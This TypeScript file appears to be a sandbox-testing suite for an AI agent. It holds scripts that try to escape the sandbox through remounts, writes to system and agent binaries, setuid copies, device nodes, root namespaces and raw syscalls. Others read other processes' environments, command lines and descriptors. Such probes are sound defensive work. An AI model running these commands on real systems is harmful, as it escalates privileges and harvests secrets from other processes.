/** Scripts that attack the sandbox they run in. Each prints what it achieved; nothing printed is nothing achieved. */

/**
 * System calls no library offers, made with perl: `name`, number on x86-64, arguments. Prints the names that succeeded, and
 * on standard error those that were refused, which shows that they were made.
 */
export function systemCalls(calls: { name: string; number: number; args: (number | string)[] }[]): string {
  const lines = calls.map(({ name, number, args }) => {
    const list = args
      .map((value) => (typeof value === 'string' ? `my $s${value.length} = "${value}\\0"` : ''))
      .filter(Boolean)
    const passed = args
      .map((value) => (typeof value === 'string' ? `$s${value.length}` : String(value)))
      .join(', ')
    return `{ ${list.join('; ')}${list.length > 0 ? ';' : ''} my $r = syscall(${number}${passed === '' ? '' : `, ${passed}`}); if ($r != -1) { print "${name} = $r\\n" } else { print STDERR "refused: ${name}\\n" } }`
  })
  return lines.join('\n')
}

/** Tries to make the host's programs writable, and to mount anything at all. */
export const remountAttack = `
mount -o remount,bind,rw /usr && echo remounted
mount -o remount,rw / && echo root remounted
mount -t tmpfs none /tmp && echo mounted tmpfs
mount --bind /home/user /opt && echo bound
mount -t proc proc /proc && echo mounted proc
umount /usr && echo unmounted
umount -l /proc && echo unmounted proc
touch /usr/escaped && echo wrote /usr
touch /opt/atelier/escaped && echo wrote agent
echo x >> /opt/node/bin/node && echo wrote node
touch /escaped && echo wrote root
echo 127.0.0.1 x >> /etc/hosts && echo wrote etc
exit 0
`

/** Setuid programs, devices, capabilities: ways to more rights. */
export const privilegeAttack = `
cp /usr/bin/id ./id && chmod 4755 ./id && [ "$(./id -u)" != "$(id -u)" ] && echo setuid works
mknod ./disk b 254 0 && echo made a block device
mknod ./mem c 1 1 && echo made a memory device
mknod /dev/sda b 8 0 && echo made a device in dev
setpriv --reuid 0 true && echo became root
for f in $(find /usr/bin /usr/sbin -perm -4000 2>/dev/null); do
  case "$f" in */mount|*/su) "$f" --version >/dev/null 2>&1; esac
done
perl -e '$< = 0; $> = 0; print "uid 0\\n" if $> == 0 || $< == 0'
perl -e '$) = "0 0"; print "gid 0\\n" if (split / /, $))[0] == 0'
chown 0:0 ./id && echo chowned
grep -E '^Cap(Prm|Eff|Bnd|Inh|Amb):' /proc/self/status | grep -v 0000000000000000
exit 0
`

/** Namespaces in which one would be root. */
export const namespaceAttack = `
unshare --user true && echo new user namespace
unshare --user --map-root-user true && echo new user namespace with root
unshare --mount true && echo new mount namespace
unshare --net true && echo new network namespace
unshare --pid --fork true && echo new process namespace
exit 0
`

/** Everything in the process table that is not ours. */
export const processAttack = `
perl -e '
  opendir(my $d, "/proc"); my @pids = grep { /^[0-9]+$/ } readdir $d;
  for my $pid (@pids) {
    my @s = stat("/proc/$pid"); my $cmd = do { local (@ARGV, $/) = "/proc/$pid/cmdline"; <> } // ""; $cmd =~ s/[\\0\\n]+/ /g;
    print "$pid $cmd\\n";
  }
'
exit 0
`

/** Prints what is in every process's environment that one may read. */
export const environmentAttack =
  'for f in /proc/[0-9]*/environ; do cat "$f" 2>/dev/null | tr "\\0" "\\n"; done; exit 0'

/** Prints where every descriptor of every process one may look at leads. */
export const descriptorAttack = 'ls -l /proc/[0-9]*/fd 2>/dev/null; exit 0'
